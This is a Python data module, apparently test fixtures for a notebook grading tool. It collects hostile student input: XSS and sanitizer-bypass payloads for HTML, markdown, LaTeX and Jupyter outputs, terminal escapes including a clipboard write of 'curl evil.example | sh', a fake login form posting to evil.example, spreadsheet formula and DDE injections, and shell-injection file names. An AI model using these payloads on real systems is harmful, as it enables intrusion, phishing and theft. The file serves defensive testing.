"""Feedback as a weapon: what students put where a teacher's browser, terminal or spreadsheet reads.

Plain data. Every payload that would run something says ``PWNED`` there, and every one that would
load something asks ``evil.example`` for it.
"""

from __future__ import annotations

import base64

WORD = "PWNED"
HOST = "evil.example"
_DO = f"document.title='{WORD}'"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_DO}"><script>{_DO}</script></svg>'
_PAGE = f"<html><script>parent.{_DO}</script></html>"

# HTML, in outputs, in markdown, in raw cells, in names and in exception texts.
HTML: tuple[str, ...] = (
    f"<script>{_DO}</script>",
    f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<script\x0c>{_DO}</script\x0c>",
    f"<script/x>{_DO}</script>",
    f"<img src=x onerror=\"{_DO}\">",
    f"<img src=x onerror={_DO}//",
    f"<img/src=x/onerror={_DO}>",
    f"<img src=x:x onerror\n=\n\"{_DO}\">",
    f"<IMG \"\"\"><SCRIPT>{_DO}</SCRIPT>\">",
    f"<img src=https://{HOST}/pixel.png>",
    f"<img srcset='https://{HOST}/pixel.png 2x'>",
    f"<picture><source srcset=//{HOST}/a.png><img></picture>",
    _SVG,
    f"<svg><animate onbegin=\"{_DO}\" attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{_DO}\"><text y=20>click</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}#x\"/>",
    f"<svg><foreignObject><iframe srcdoc=\"&lt;script>{_DO}&lt;/script>\"></foreignObject></svg>",
    f"<svg><style><img src=x onerror=\"{_DO}\"></style></svg>",
    f"<svg></p><style><g title=\"</style><img src onerror={_DO}>\">",
    f"<svg><desc><noscript>&lt;/noscript>&lt;img src onerror={_DO}></noscript></desc></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    f"onerror={_DO}&gt;\">",
    f"<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:{_DO}\">click</maction>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"
    f"<img onerror={_DO} src>\">",
    f"<math><annotation-xml encoding=\"text/html\"><style><img src onerror=\"{_DO}\"></style>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_DO}>\">",
    f"<noembed><img alt=\"</noembed><img src=x onerror={_DO}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={_DO}>\">",
    f"<textarea><p title=\"</textarea><img src=x onerror={_DO}>\">",
    f"<title><p title=\"</title><img src=x onerror={_DO}>\">",
    f"<!--><img src=x onerror={_DO}>-->",
    f"<!-- --!><img src=x onerror={_DO}> -->",
    f"<![CDATA[<img src=x onerror={_DO}>]]>",
    f"<?xml-stylesheet href=\"javascript:{_DO}\"?>",
    f"<template><script>{_DO}</script></template>",
    f"<a href=\"javascript:{_DO}\">click</a>",
    f"<a href=\"java\tscript:{_DO}\">click</a>",
    f"<a href=\"&#106;avascript&colon;{_DO}\">click</a>",
    f"<a href=\" \x01javascript:{_DO}\">click</a>",
    f"<a href=\"JaVaScRiPt:{_DO}\">click</a>",
    f"<a href=\"vbscript:{_DO}\">click</a>",
    f"<a href=\"data:text/html;base64,{base64.b64encode(_PAGE.encode()).decode()}\">click</a>",
    f"<a href='https://example.org/' onclick=\"{_DO}\" style='position:fixed;inset:0'>all</a>",
    f"<iframe srcdoc=\"<script>parent.{_DO}</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.{_DO}\"></iframe>",
    f"<iframe src=//{HOST}/></iframe>",
    f"<object data=\"data:text/html,{_PAGE}\"></object>",
    f"<embed src=\"//{HOST}/x.swf\">",
    f"<meta http-equiv=refresh content=\"0;url=//{HOST}/\">",
    f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<style>@import url(//{HOST}/x.css); body{{background:url(//{HOST}/a)}}</style>",
    f"<div style=\"background:url(//{HOST}/a)\">x</div>",
    f"<div style=\"width:expression({_DO})\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh\">100 of 100</div>",
    f"<td style=\"text-align:url(//{HOST}/a);text-align:right\">x</td>",
    f"<table background=//{HOST}/a><tr><td background=//{HOST}/b>x</td></tr></table>",
    f"<form action=//{HOST}/ method=post><input name=password autofocus onfocus=\"{_DO}\">"
    "<button formaction=//evil.example/>log in again</button></form>",
    f"<isindex type=image src=1 onerror=\"{_DO}\">",
    f"<video poster=//{HOST}/a><source onerror=\"{_DO}\" src=x></video>",
    f"<audio src=x onerror=\"{_DO}\">",
    f"<details open ontoggle=\"{_DO}\"><summary>x</summary></details>",
    f"<marquee onstart=\"{_DO}\">x</marquee>",
    f"<body onload=\"{_DO}\">",
    f"<input autofocus onfocus=\"{_DO}\">",
    f"<select onfocus=\"{_DO}\" autofocus><option>x</select>",
    f"<b onpointerover=\"{_DO}\">move here</b>",
    f"<custom-element onclick=\"{_DO}\" is=script>x</custom-element>",
    f"<p id=MathJax class=jp-mod-trusted data-commandlinker-command=terminal:create-new>{WORD}</p>",
    "</div></div></div></section></body></html><h1>Score: 100 / 100</h1>",
    "</pre></script></style></textarea></title><h1>Score: 100 / 100</h1>",
)  # fmt: skip

# Markdown that becomes HTML; each of HTML is a weapon in markdown as well.
MARKDOWN: tuple[str, ...] = (
    f"[click](javascript:{_DO})",
    f"[click]( \n javascript:{_DO})",
    f"[click](<javascript:{_DO}>)",
    f"[click](JAVASCRIPT&colon;{_DO})",
    f"[click](&#x6A;avascript:{_DO})",
    f"[click](javascript\\:{_DO})",
    f"[click](java\rscript:{_DO})",
    f"[click](java\x01script:{_DO})",
    f"[click](\x01javascript:{_DO})",
    f"[click](data:text/html;base64,{base64.b64encode(_PAGE.encode()).decode()})",
    f"[click](vbscript:{_DO})",
    f"[click](file:///etc/passwd \"{WORD}\")",
    f"[click][there]\n\n[there]: javascript:{_DO}",
    f"[click][there]\n\n[there]:\n   javascript:{_DO}",
    f"> [click][there]\n>\n> [there]:\n> javascript:{_DO}",
    f"[there]\n\n[there]: <javascript:{_DO}>",
    f"<javascript:{_DO}>",
    f"[click](//{HOST}/\"onmouseover=\"{_DO})",
    f"[click](x \"onmouseover={_DO}\")",
    f"![x](https://{HOST}/pixel.png)",
    f"![x](//{HOST}/pixel.png)",
    f"![x][there]\n\n[there]: https://{HOST}/pixel.png",
    f"![x\" onerror=\"{_DO}](x.png)",
    f"![x](javascript:{_DO})",
    f"![x](data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()})",
    "![x](attachment:lost.png)",
    "![x](attachment:evil.svg)",
    "![x](../../../../etc/passwd)",
    "![x](%2e%2e/%2e%2e/solution.png)",
    "![x](/api/shutdown)",
    f"`<img src=x` onerror={_DO}>`",
    f"```\n```<img src=x onerror={_DO}>",
    f"```mermaid\ngraph TD; A[\"<img src=x onerror={_DO}>\"]; click A \"javascript:{_DO}\"\n```",
    f"```html onclick={_DO}\n<script>{_DO}</script>\n```",
    f"    <script>{_DO}</script>\n\n<script>{_DO}</script>",
    f"$\\href{{javascript:{_DO}}}{{click}}$",
    f"$$\\class{{x}}{{\\style{{background:url(//{HOST}/a)}}{{y}}}}$$",
    f"\\begin{{equation}}\\require{{html}}\\href{{javascript:{_DO}}}{{x}}\\end{{equation}}",
    f"$<img src=x onerror={_DO}>$",
    f"# heading <img src=x onerror={_DO}>",
    f"| a |\n|---|\n| <img src=x onerror={_DO}> |",
    f"*<b*onclick={_DO}>x</b>",
    f"[^1]\n\n[^1]: <script>{_DO}</script>",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"\\<script>{_DO}\\</script>",
)  # fmt: skip

LATEX: tuple[str, ...] = (
    f"$\\href{{javascript:{_DO}}}{{x}}$",
    f"\\class{{a}}{{\\cssId{{b}}{{\\style{{background:url(//{HOST}/)}}{{x}}}}}}",
    "\\input{/etc/passwd}\\immediate\\write18{id}",
    f"$<img src=x onerror={_DO}>$",
    f"</script><script>{_DO}</script>",
)

# Media types that an output may claim, with what would run or load there.
OUTPUTS: tuple[dict[str, object], ...] = (
    {"application/javascript": _DO},
    {"text/javascript": _DO, "text/plain": "x"},
    {"image/svg+xml": _SVG},
    {"image/svg+xml": [_SVG], "text/plain": "x"},
    {"image/png": f"\"><script>{_DO}</script>"},
    {"image/png": base64.b64encode(_SVG.encode()).decode()},
    {"image/jpeg": "not base64 at all"},
    {"image/webp\" onerror=\"x": "AAAA"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": WORD}},
    {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>": _DO}}},
    {"application/vnd.vega.v5+json": {"$schema": f"https://{HOST}/", "data": [{"url": "x"}]}},
    {"application/vnd.plotly.v1+json": {"data": [{"text": f"<img src=x onerror={_DO}>"}]}},
    {"application/json": {"x": float("nan"), "y": float("inf")}},
    {"application/pdf": base64.b64encode(b"%PDF-1.7").decode()},
    {"application/geo+json": {"url": f"https://{HOST}/"}},
    {"text/vnd.mermaid": f"graph TD; click A \"javascript:{_DO}\""},
    {"text/html; charset=utf-8": f"<script>{_DO}</script>"},
    {"TEXT/HTML": f"<script>{_DO}</script>"},
    {"text/html": ["<scr", f"ipt>{_DO}</script>"]},
    {"text/html": {"toString": _DO}},
    {f"x/<script>{_DO}</script>": "x"},
    {"text/plain": float("nan")},
)  # fmt: skip

# Attachments of a text cell: name → media type → base64.
ATTACHMENTS: tuple[dict[str, dict[str, str]], ...] = (
    {"evil.svg": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()}},
    {"evil.png": {"text/html": base64.b64encode(_PAGE.encode()).decode()}},
    {"evil.png": {"image/png": f"\" onerror=\"{_DO}"}},
    {"evil.png": {f"image/png\" onerror=\"{_DO}": "iVBORw0KGgo="}},
    {f"x\" onerror=\"{_DO}": {"image/png": base64.b64encode(_PAGE.encode()).decode()}},
)  # fmt: skip

# What a terminal would obey.
TERMINAL: tuple[str, ...] = (
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # write the clipboard
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\",
    "\x1b]0;PWNED\x07",  # the window's title
    "\x1b]8;;javascript:PWNED\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[21t",  # have the title typed in
    "\x1b[6n",  # have the place of the cursor typed in
    "\x1bP$q\x1b\\",
    "\x1bc",  # reset
    "\x1b[?1049h",  # another screen
    "\x9b2J",  # the same commands in one byte
    "\x9d0;PWNED\x9c",
    "\x07\x08\x7f",
    "5 points\rall points",
    "line\nfaked: 100/100 graded (ok)",
    "\x1b[38m\x1b[48;5m\x1b[38;5;999m\x1b[38;2;1m",  # colours of no number
    "\u202egnp.erocs\u202c",  # read from right to left
    "\u2066\u2067\u2069\u200e\u200f\u061c",
    "\u2028\u2029\x85\x0b\x0c",
    "\ud800",
    "[bold red]PWNED[/bold red] [link=https://evil.example]x[/link] [/] :skull:",
    "[/nothing] [blink]",
)  # fmt: skip

# What a spreadsheet would calculate, wherever it cuts cells.
FORMULAS: tuple[str, ...] = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", '=HYPERLINK("https://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "a;=1+1",
    "a;\t=1+1", "a\t=1+1", "a|=1+1", "a\n=1+1", "a\r\n@SUM(1)", 'a";=1+1', '";=1+1;"', "a; =1+1",
    "a;;+1",
    "a;＝1+1", "'=1+1", "''=1+1", "a;'=1+1",
)  # fmt: skip
NO_FORMULAS: tuple[str, ...] = (
    "ada", '""', '"quoted"', "O'Brien", "Zoë Müller", "a - b", "3/4, -2", "x = 1", "a@b.example",
    "1e-3", "'", "a;b", "",
)  # fmt: skip

# Names of students, and of files, in bytes, as a folder may hold them.
NAMES: tuple[bytes, ...] = (
    b"...", b"-rf", b"--student", b"con", b"nul.txt", b"~root", b"$(id)", b"`id`", b";id", b"*",
    b"?", b"[bold red]ada", b"a:b", b"=1+1", b"@sum", b"<img src=x onerror=alert(1)>", b"'\"",
    b"%s%n", b"{0}", b"{{7*7}}", b"\\", b" ", b" ada ", b"ada\n", b"\x1b[2J", b"\x1b]52;c;eA==\x07",
    b"M\xfcller",
    "ada\u202e".encode(), "ada\u200b".encode(), "Zoe\u0308".encode(), b"x" * 255, b"\x01" * 200,
    "\U0001f600".encode() * 60,
)  # fmt: skip
